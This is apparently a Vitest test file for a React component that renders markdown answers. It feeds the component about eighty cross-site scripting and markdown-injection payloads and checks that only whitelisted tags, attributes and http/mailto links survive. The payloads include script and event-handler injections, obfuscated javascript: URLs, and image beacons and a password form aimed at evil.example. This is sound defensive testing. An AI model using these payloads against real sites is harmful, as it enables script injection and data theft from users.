// @vitest-environment jsdom
import { render } from '@testing-library/react';
import { describe, expect, test } from 'vitest';
import { AnswerBody } from './AnswerBody';

const VECTORS = [
  '<script>alert(1)</script>',
  '<SCRIPT SRC=https://evil.example/x.js></SCRIPT>',
  'text <script>alert(1)</script> text',
  '<img src=x onerror=alert(1)>',
  '<img src="https://evil.example/beacon.gif">',
  '![beacon](https://evil.example/beacon.gif?q=secret)',
  '![beacon][b]\n\n[b]: https://evil.example/b.gif',
  '![](data:image/svg+xml;base64,PHN2Zy8+)',
  '![x](javascript:alert(1))',
  '[![inner](https://evil.example/i.gif)](https://ok.example)',
  '[![inner](https://evil.example/i.gif)](javascript:alert(1))',
  '[a](javascript:alert(1))',
  '[a](JaVaScRiPt:alert(1))',
  '[a](java\nscript:alert(1))',
  '[a](java&#x0A;script:alert(1))',
  '[a](&#106;avascript:alert(1))',
  '[a](&#x6A;&#x61;vascript&colon;alert(1))',
  '[a](\u0001javascript:alert(1))',
  '[a](<javascript:alert(1)>)',
  '[a](< javascript:alert(1)>)',
  '[a](vbscript:msgbox(1))',
  '[a](data:text/html,<script>alert(1)</script>)',
  '[a](data:text/html;base64,PHNjcmlwdD4=)',
  '[a](blob:https://ok.example/1)',
  '[a](file:///etc/passwd)',
  '[a](ftp://evil.example)',
  '[a](//evil.example)',
  '[a](\\\\evil.example)',
  '[a](/dzb/logout)',
  '[a](#/system)',
  '[a](?x=1)',
  '[a](view-source:https://ok.example)',
  '[a](intent://x#Intent;end)',
  '[a](https://ok.example" onclick="alert(1))',
  '[a](https://ok.example "x\' onmouseover=alert(1)")',
  '[a][j]\n\n[j]: javascript:alert(1)',
  '[j]\n\n[j]: <javascript:alert(1)> "t"',
  '<javascript:alert(1)>',
  '<vbscript:x>',
  '<data:text/html,x>',
  '<xmpp:a@b.example>',
  'javascript:alert(1) xmpp:a@b.example',
  '<a href="javascript:alert(1)">a</a>',
  '<iframe src="https://evil.example"></iframe>',
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  '<object data="https://evil.example"></object><embed src="https://evil.example">',
  '<svg onload=alert(1)><use href="https://evil.example#x"/></svg>',
  '<svg><script>alert(1)</script></svg>',
  '<math><mi xlink:href="javascript:alert(1)">x</mi></math>',
  '<style>body{background:url(https://evil.example)}</style>',
  '<link rel=stylesheet href=https://evil.example/x.css>',
  '<div style="position:fixed;inset:0;background:url(https://evil.example)">x</div>',
  '<meta http-equiv=refresh content="0;url=https://evil.example">',
  '<base href="https://evil.example/">',
  '<form action="https://evil.example"><input name=password><button>x</button></form>',
  '<video src=https://evil.example autoplay></video><audio src=x onerror=alert(1)></audio>',
  '<!-- <img src=x onerror=alert(1)> -->',
  '<!--><script>alert(1)</script>-->',
  '<![CDATA[<script>alert(1)</script>]]>',
  '<?xml-stylesheet href="javascript:alert(1)"?>',
  '<details open ontoggle=alert(1)>x</details>',
  '<body onload=alert(1)>',
  '<template><script>alert(1)</script></template>',
  '| a | <img src=x onerror=alert(1)> |\n|---|---|\n| ![x](https://evil.example) | [a](javascript:1) |',
  '| a | b |\n|:-"onclick=alert(1)-:|---|\n| x | y |',
  '- [ ] <img src=x onerror=alert(1)>\n- ![x](https://evil.example/x)',
  '```constructor\nx\n```\n\n```__proto__\nx\n```\n\n```hasOwnProperty\nx\n```',
  '```js" onmouseover="alert(1)\nx\n```',
  '```html\n<script>alert(1)</script>\n```',
  '> <img src=x onerror=alert(1)>\n> [a](javascript:alert(1))',
  '[^1]: <script>alert(1)</script>\n\nx[^1]',
  '[^__proto__]\n\n[^__proto__]: x',
  '[__proto__]\n\n[__proto__]: javascript:alert(1)',
  '# <img src=x onerror=alert(1)>\n\n## [x](javascript:alert(1))',
  '**<script>alert(1)</script>**',
  '`<img src=x onerror=alert(1)>`',
  '    <script>alert(1)</script>',
  'https://ok.example/"onclick="alert(1) www.evil.example',
  '<https://ok.example/<script>>',
  '[\u202e a](https://ok.example)',
  '{{constructor.constructor("alert(1)")()}} ${alert(1)}',
  '</div></div><script>alert(1)</script>',
];

const TAGS = new Set(
  'A BLOCKQUOTE BR BUTTON CODE DEL DIV EM H1 H2 H3 H4 H5 H6 HR INPUT LI OL P PRE SPAN STRONG SUP TABLE TBODY TD TH THEAD TR UL'.split(
    ' ',
  ),
);
const ATTRIBUTES = new Set(
  'align aria-label aria-live checked class data-scroll disabled href rel role start style tabindex target type'.split(
    ' ',
  ),
);

function check(root: Element): void {
  for (const element of root.querySelectorAll('*')) {
    expect(TAGS, element.outerHTML).toContain(element.tagName);
    for (const { name, value } of element.attributes) {
      expect(ATTRIBUTES, element.outerHTML).toContain(name);
      if (name === 'style') expect(value).toMatch(/^text-align: (left|center|right);$/);
      if (name === 'type') expect(['button', 'checkbox']).toContain(value);
    }
    if (element.hasAttribute('href')) {
      expect(element.getAttribute('href')).toMatch(/^(https?:\/\/|mailto:)/);
      expect(element.getAttribute('target')).toBe('_blank');
      expect(element.getAttribute('rel')).toBe('noopener noreferrer');
    }
  }
}

describe('a hostile answer does nothing', () => {
  test.each(VECTORS)('%s', (text) => {
    const { container, rerender } = render(<AnswerBody text="" finished={false} />);
    for (const size of [0.5, 0.9, 1]) {
      rerender(<AnswerBody text={text.slice(0, Math.floor(text.length * size))} finished={false} />);
      check(container);
    }
    rerender(<AnswerBody text={text} finished />);
    check(container);
    expect(container.textContent).not.toBe('');
  });

  test('inside long blocks too', () => {
    const list = VECTORS.map((text) => `- ${text.replaceAll('\n', ' ')} ${'字'.repeat(60)}\n`).join('');
    const rows = VECTORS.map((text) => `| ${text.replaceAll('\n', ' ')} | ${'字'.repeat(60)} |\n`).join('');
    const { container } = render(<AnswerBody text={`${list}\n\n| a | b |\n|---|---|\n${rows}`} finished />);
    check(container);
  });
});
